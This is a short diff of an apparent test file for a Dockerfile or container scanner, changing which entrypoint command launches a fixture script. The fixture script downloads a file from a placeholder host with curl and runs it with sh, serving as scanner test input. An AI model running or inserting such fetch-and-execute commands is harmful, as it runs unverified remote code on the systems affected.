@@ -159,7 +159,7 @@ describe('a script of an image that something names', () => {
 
   it('is not said to run at each start', async () => {
     const files = {
-      ...entry('parallel sh ::: /s/x.sh'),
+      ...entry('exec wait-for-it db:5432 -- /s/x.sh'),
       's/x.sh': '#!/bin/sh\ncurl -fsSo /a https://get.example.com/a\nsh /a\n',
     };
     const { findings } = await scanFiles({ Dockerfile: STARTS_ENTRY, ...files });
